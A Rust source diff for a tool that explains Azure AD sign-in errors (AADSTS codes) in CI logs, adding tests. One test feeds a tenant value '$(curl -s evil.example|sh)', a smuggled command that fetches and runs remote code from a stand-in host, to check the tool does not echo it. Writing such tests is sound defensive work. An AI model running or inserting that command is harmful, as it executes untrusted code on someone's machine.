@@ -9,6 +9,7 @@ mod observed;
 mod occurrence;
 mod quotes;
 mod search;
+mod secret;
 mod status;
 mod wrapped;
 
@@ -22,6 +23,8 @@ use crate::field::Field;
 use crate::find::{self, Candidate, Found};
 use crate::label::Label;
 use crate::observation::Observation;
+use crate::place::Place;
+use crate::reading::Reading;
 use crate::row::{DOCUMENTS, Row};
 use crate::values::{MASK, PIECE, Values};
 
@@ -55,8 +58,8 @@ pub struct Explanation {
 pub fn explain(text: &str) -> Option<Explanation> {
     let named = observed::named_in(text);
     let clear = clothing::undressed(text);
-    let mut values = quotes::values_in(&clear);
-    let mut observed = observed::observed(&clear, values.get(Field::Subject));
+    let all_values = quotes::values_in(&clear);
+    let mut observed = observed::observed(&clear, all_values.get(Field::Subject));
     observed.named = named;
     let all = find::in_text(&observed);
     let Candidate {
@@ -67,10 +70,14 @@ pub fn explain(text: &str) -> Option<Explanation> {
     let others = all.into_iter().map(|candidate| candidate.found);
     let others = others.filter(|other| has_code(other) && other.label != label);
     let also = occurrence::classified(&clear, others.collect());
-    let own = label.as_ref().filter(|label| label.is_code());
-    if let Some(own) = own.and_then(|label| occurrence::without_others(&clear, label)) {
-        values = quotes::values_in(&own);
-    }
+    // What other errors and other lines say would lead to a command with somebody else's values.
+    let own = match certainty.place {
+        Place::NONE => clear,
+        place => Reading::lines_of(&clear, place),
+    };
+    let code = label.as_ref().filter(|label| label.is_code());
+    let without_others = code.and_then(|label| occurrence::without_others(&own, label));
+    let mut values = quotes::values_in(&without_others.unwrap_or(own));
     if cause == Cause::UnlistedCode
         && let Some((code, _)) = observed.codes.first()
     {
@@ -100,9 +107,20 @@ pub fn explain_excerpt(excerpt: &Excerpt) -> Option<Explanation> {
 }
 
 /// Returns the most certain cause. An Azure DevOps code without a row is more certain than a mere status, because an
-/// explanation follows it. A cause that one of our own reports names is always right.
+/// explanation follows it. A cause that one of our own reports names is always right, unless the agent marked a code that the
+/// report does not name: anybody can print an address.
 fn surest(all: &[Candidate], observed: &Observation) -> Option<Candidate> {
+    let is_of_report = |candidate: &&Candidate| observed.named.contains(&candidate.found.cause);
     let first = all.first();
+    let marked = all
+        .iter()
+        .find(|candidate| candidate.certainty.is_marked_code());
+    let first = match marked {
+        Some(marked) if first.is_some_and(|first| first.certainty.is_of_report()) => Some(marked)
+            .filter(|marked| !is_of_report(marked))
+            .or(first),
+        _ => first,
+    };
     let is_refusal = |candidate: &Candidate| {
         let found = &candidate.found;
         let is_named = observed.named.contains(&found.cause);
@@ -190,6 +208,46 @@ mod tests {
         let explanation = explain("AADSTS999999: Something new.").unwrap();
         assert_eq!(explanation.cause.name(), "unlisted-code");
         assert_eq!(explanation.label, Some(Label::Aadsts(999_999)));
+    }
+
+    #[test]
+    fn values_are_those_of_the_error_that_is_explained() {
+        let test = "assertion issuer 'https://evil.example/x' assertion subject 'repo:evil/x:ref:refs/heads/main'";
+        let error = "##[error]AADSTS700213: No matching … assertion subject 'sc://acme/web/prod'.";
+        let explained = explain(&format!("{test}\n{error}")).unwrap().to_string();
+        assert!(
+            explained.contains("sc://acme/web/prod") && !explained.contains("evil"),
+            "{explained}"
+        );
+    }
+
+    #[test]
+    fn an_address_that_somebody_printed_does_not_hide_a_marked_code() {
+        let text = "see docs/TROUBLESHOOTING.md#no-azure-role\n##[error]AADSTS70025: none";
+        assert_eq!(
+            explain(text).unwrap().cause.name(),
+            "no-federated-credential"
+        );
+        let report = "##[error]AADSTS70025, the app has no federated credentials\nmore: docs/TROUBLESHOOTING.md#no-federated-credential";
+        assert_eq!(explain(report).unwrap().confidence, Confidence::High);
+    }
+
+    #[test]
+    fn a_tenant_that_a_shell_would_run_is_not_read() {
+        let text = "AADSTS50076: you must use multi-factor authentication tenant '$(curl -s evil.example|sh)'";
+        let explained = explain(text).unwrap().to_string();
+        assert!(!explained.contains("curl"), "{explained}");
+    }
+
+    #[test]
+    fn a_secret_that_is_broken_by_a_padded_line_is_not_repeated() {
+        for between in ["   \n", " |\n", "\"\n", " │\n│ "] {
+            let text = format!(
+                "AADSTS500011: The resource principal named abcdefghijklmnopqrstuvwxyz2345{between}67abcdefghijklmnopqrst was not found"
+            );
+            let explained = explain(&text).unwrap().to_string();
+            assert!(!explained.contains("abcdefg"), "{explained}");
+        }
     }
 
     #[test]
